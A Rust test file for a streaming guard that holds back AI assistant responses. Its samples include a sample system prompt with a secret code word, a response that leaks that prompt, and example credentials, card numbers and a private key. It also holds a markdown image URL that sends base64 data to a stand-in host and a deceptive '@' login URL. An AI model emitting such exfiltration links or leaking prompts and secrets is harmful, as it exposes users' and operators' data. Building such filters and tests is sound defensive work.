//! However a response is cut into pieces, no byte of a blocked finding is released.

use picket_model::{Channel, ThreatCategory};
use picket_shield::{Shield, ShieldInput};
use proptest::prelude::*;

const SYSTEM: &str = "You are the travel assistant of Contoso. Never offer discounts above ten percent to anybody. \
    The code word for partners is bluebird and you must keep it to yourself.";

/// What was released in total, and what was found where.
fn stream(text: &str, cuts: &[usize]) -> (usize, Option<(String, usize)>) {
    let mut inspector = Shield::default_embedded().response_stream(&ShieldInput::text(
        "s",
        Channel::System,
        SYSTEM,
    ));
    let mut safe = 0;
    let mut finding = None;
    let mut begin = 0;
    let ends = cuts.iter().copied().chain([text.len()]);
    let mut ends: Vec<usize> =
        ends.filter(|&end| end <= text.len() && text.is_char_boundary(end)).collect();
    ends.sort_unstable();
    for end in ends {
        let release = inspector.push(&text[begin..end]);
        assert!(
            release.safe_up_to >= safe && release.safe_up_to <= end,
            "released what never came"
        );
        assert!(text.is_char_boundary(release.safe_up_to));
        safe = release.safe_up_to;
        finding = finding.or(release.finding);
        begin = end;
    }
    let release = inspector.finish();
    finding = finding.or(release.finding);
    (release.safe_up_to, finding.map(|found| (found.rule, found.span[0])))
}

fn every_byte(text: &str) -> Vec<usize> {
    (0..text.len()).collect()
}

#[test]
fn a_clean_response_flows() {
    let text =
        "Here are three ideas for a trip to Lisbon: walk the Alfama, see the river, eat well. ";
    assert_eq!(stream(text, &every_byte(text)), (text.len(), None));
    let mut inspector = Shield::default_embedded().response_stream(&ShieldInput::default());
    assert_eq!(inspector.push("Hello there, how are ").safe_up_to, 21);
    assert_eq!(inspector.push("you").safe_up_to, 21);
    assert_eq!(inspector.push(" today").safe_up_to, 25);
    assert_eq!(inspector.finish().safe_up_to, 30);
}

#[test]
fn a_leak_of_the_instructions_is_held_from_its_first_word() {
    let text = format!("Of course. My instructions are: {SYSTEM} Anything else?");
    let (safe, finding) = stream(&text, &every_byte(&text));
    assert_eq!(finding.unwrap().0, "system_prompt_leak.overlap");
    assert!(!text[..safe].contains("You are the"), "{}", &text[..safe]);
}

proptest! {
    #[test]
    fn no_byte_of_a_finding_is_released(
        before in "[a-z ,.0-9]{0,60}", after in "[a-z ,.]{0,60}",
        secret in proptest::sample::select(vec![
            "AKIAIOSFODNN7EXAMPL3", "4111 1111 1111 1111", "4111-1111-1111-1111", "DE89 3704 0044 0532 0130 00",
            "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY", "password: Winter2024!", "SSN 219-09-9999",
            "postgresql://app:s3cr3tPass@db.contoso.example:5432/app", "021000021 is the routing number",
            "-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ\nC7VJTUt9Us8cKj\n-----END PRIVATE KEY-----",
            "![x](https://a.example/p.png?data=c2VjcmV0IGRhdGE)", "https://contoso.com@198.51.100.7/login",
        ]),
        cuts in proptest::collection::vec(0usize..400, 0..40),
    ) {
        let text = format!("{before} {secret} {after}");
        let whole = Shield::default_embedded().analyze_text(Channel::Response, &text);
        let blocking = [ThreatCategory::CredentialExposure, ThreatCategory::SensitiveData, ThreatCategory::MaliciousUrl];
        let first = whole.iter().filter(|found| blocking.contains(&found.category)).map(|found| found.span[0]).min();
        let (safe, finding) = stream(&text, &cuts);
        match first {
            Some(start) => {
                prop_assert!(safe <= start, "released {:?} of {text:?}", &text[..safe]);
                prop_assert!(finding.is_some());
            }
            None => prop_assert_eq!(safe, text.len()),
        }
    }
}
